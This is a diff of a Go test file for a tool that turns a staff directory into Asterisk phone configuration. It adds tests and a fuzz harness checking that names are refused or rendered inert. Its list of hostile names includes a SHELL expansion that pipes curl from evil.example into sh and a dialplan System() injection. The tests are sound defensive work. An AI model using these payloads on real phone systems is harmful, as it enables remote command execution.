@@ -4,8 +4,10 @@ import (
 	"bytes"
 	"errors"
 	"flag"
+	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -325,23 +327,151 @@ func TestRenderRefusesBadSettings(t *testing.T) {
 	}
 }
 
-// TestHostileNamesStayInTheirLine: a staff name cannot add sections or
-// options to the rendered files.
-func TestHostileNamesStayInTheirLine(t *testing.T) {
-	staff := []record.Staff{{ID: "x", Name: "Eve\"\n[evil]\npassword=1;x", Extension: "2001", Endpoint: "PJSIP/2001",
-		Department: "a\r\n[b]", Active: true}}
-	files := renderSample(t, sampleSettings(), staff)
-	for _, f := range files {
-		cfg, err := Parse(bytes.NewReader(f.Data))
-		if err != nil {
-			t.Fatalf("%s: %v", f.Name, err)
-		}
-		for _, s := range cfg.Sections {
-			if s.Name == "evil" || s.Name == "b" {
-				t.Errorf("%s: a staff name injected section [%s]", f.Name, s.Name)
+// hostileNames are directory text meant to become Asterisk syntax or code.
+var hostileNames = []string{
+	"${SHELL(curl evil.example|sh)}", "$[1+1]", "Eve\"\n[evil]\npassword=1;x", "a\r\n[b]",
+	"x) same => n,System(id", "王芳;--", `back\slash`, "{x}", "<2001>", "a\u202eb", "tab\there", "x\x00y",
+}
+
+// TestHostileNamesAreRefused: Phones applies the directory's rules
+// (record.CheckStaff) and names the person; the renderer never sees them.
+func TestHostileNamesAreRefused(t *testing.T) {
+	for _, name := range hostileNames {
+		for _, field := range []string{"name", "department"} {
+			st := record.Staff{ID: "x", Name: "Eve", Extension: "2001", Endpoint: "PJSIP/2001", Department: "desk", Active: true}
+			if field == "name" {
+				st.Name = name
+			} else {
+				st.Department = name
+			}
+			_, err := Phones([]record.Staff{st}, PlaceholderSecrets)
+			if !errors.Is(err, ErrSettings) || !strings.Contains(err.Error(), field+":") || record.CheckStaff(st) == nil {
+				t.Errorf("%s %q: Phones err = %v; want it refused as the API refuses it", field, name, err)
 			}
 		}
 	}
+}
+
+// TestHostileNamesStayInTheirLine: even a phone built by hand, past the
+// directory's rules, cannot add sections, options or expansions: names go
+// into comments and a quoted caller id only, escaped.
+func TestHostileNamesStayInTheirLine(t *testing.T) {
+	for _, name := range hostileNames {
+		phones := []Phone{{Name: name, Extension: "2001", Department: name, Dial: "PJSIP/2001", Resource: "2001", Secret: "pw"}}
+		files, err := Render(sampleSettings(), phones)
+		if err != nil {
+			t.Fatalf("%q: %v", name, err)
+		}
+		assertIntended(t, name, files, []Phone{{Name: "N", Extension: "2001", Department: "D", Dial: "PJSIP/2001", Resource: "2001", Secret: "pw"}})
+	}
+}
+
+// assertIntended fails unless files parse to exactly the objects that
+// rendering the benign phones gives (see cmpObjects).
+func assertIntended(t *testing.T, what string, files []File, benign []Phone) {
+	t.Helper()
+	want, err := Render(sampleSettings(), benign)
+	if err != nil {
+		t.Fatalf("benign render: %v", err)
+	}
+	for i, f := range files {
+		got, err := Parse(bytes.NewReader(f.Data))
+		if err != nil {
+			t.Fatalf("%q: %s does not parse: %v", what, f.Name, err)
+		}
+		exp, err := Parse(bytes.NewReader(want[i].Data))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if diff := cmpObjects(got, exp); diff != "" {
+			t.Fatalf("%q: %s: %s", what, f.Name, diff)
+		}
+	}
+}
+
+// FuzzRenderDirectory: whatever a directory entry holds, either the
+// directory's rules refuse it (Phones and the API alike) or the rendered
+// files parse to exactly the intended objects and pass Check.
+func FuzzRenderDirectory(f *testing.F) {
+	for _, name := range hostileNames {
+		f.Add(name, "desk", "2001", "PJSIP/2001", "zh")
+	}
+	for _, s := range append(sampleStaff(), labStaff()...) {
+		f.Add(s.Name, s.Department, s.Extension, s.Endpoint, "en")
+	}
+	f.Add("O'Brien-Smith (Jr.), & Co", "after-sales", "2001", "Local/2001@test-agents", "orders")
+	f.Add("a", "b", "2001", "PJSIP/x;y", "c")
+	f.Add("a", "b", "20#1", "SIP/2001", "c")
+	f.Fuzz(func(t *testing.T, name, dept, ext, endpoint, skill string) {
+		st := record.Staff{ID: "x", Name: name, Department: dept, Extension: ext, Endpoint: endpoint, Skills: []string{skill}, Active: true}
+		phones, err := Phones([]record.Staff{st}, PlaceholderSecrets)
+		if ext == "" {
+			return // no phone at all
+		}
+		if endpoint == "" {
+			st.Endpoint = "PJSIP/" + ext
+		}
+		refused := record.CheckStaff(st)
+		if (err == nil) != (refused == nil) {
+			t.Fatalf("Phones err = %v but the directory's rules say %v", err, refused)
+		}
+		if err != nil {
+			return
+		}
+		files, err := Render(labSettings(), phones)
+		if err != nil {
+			t.Fatalf("an accepted entry does not render: %v", err)
+		}
+		benign := phones[0]
+		benign.Name = "N"
+		if benign.Department != "" {
+			benign.Department = "D"
+		}
+		want, err := Render(labSettings(), []Phone{benign})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i, file := range files {
+			got, err := Parse(bytes.NewReader(file.Data))
+			if err != nil {
+				t.Fatalf("%s does not parse: %v", file.Name, err)
+			}
+			exp, _ := Parse(bytes.NewReader(want[i].Data))
+			if diff := cmpObjects(got, exp); diff != "" {
+				t.Fatalf("%s: the entry changed the objects:\n%s", file.Name, diff)
+			}
+		}
+	})
+}
+
+// cmpObjects compares two parsed files: the same sections with the same
+// keys in the same order and the same values, but for caller ids, which
+// carry the name and must be one quoted string without anything Asterisk
+// expands. "" when they match.
+func cmpObjects(got, want *Config) string {
+	if len(got.Sections) != len(want.Sections) || len(got.Includes) != len(want.Includes) {
+		return fmt.Sprintf("%d sections, %d includes; want %d, %d", len(got.Sections), len(got.Includes), len(want.Sections), len(want.Includes))
+	}
+	for j, s := range got.Sections {
+		e := want.Sections[j]
+		if s.Name != e.Name || s.Template != e.Template || !slices.Equal(s.Inherits, e.Inherits) || len(s.Entries) != len(e.Entries) {
+			return fmt.Sprintf("section %d: [%s]%v (%d entries), want [%s]%v (%d)", j, s.Name, s.Inherits, len(s.Entries), e.Name, e.Inherits, len(e.Entries))
+		}
+		for k, en := range s.Entries {
+			ee := e.Entries[k]
+			switch {
+			case en.Key != ee.Key:
+				return fmt.Sprintf("[%s] entry %d: %q, want %q", s.Name, k, en.Key, ee.Key)
+			case en.Key == "callerid":
+				if strings.Count(en.Value, `"`) != 2 || !strings.HasPrefix(en.Value, `"`) || strings.ContainsAny(en.Value, "${}[]\\") {
+					return fmt.Sprintf("[%s] callerid %q is not one quoted, inert name", s.Name, en.Value)
+				}
+			case en.Value != ee.Value:
+				return fmt.Sprintf("[%s] %s = %q, want %q", s.Name, en.Key, en.Value, ee.Value)
+			}
+		}
+	}
+	return ""
 }
 
 func TestWriteDirKeepsSecretsPrivate(t *testing.T) {
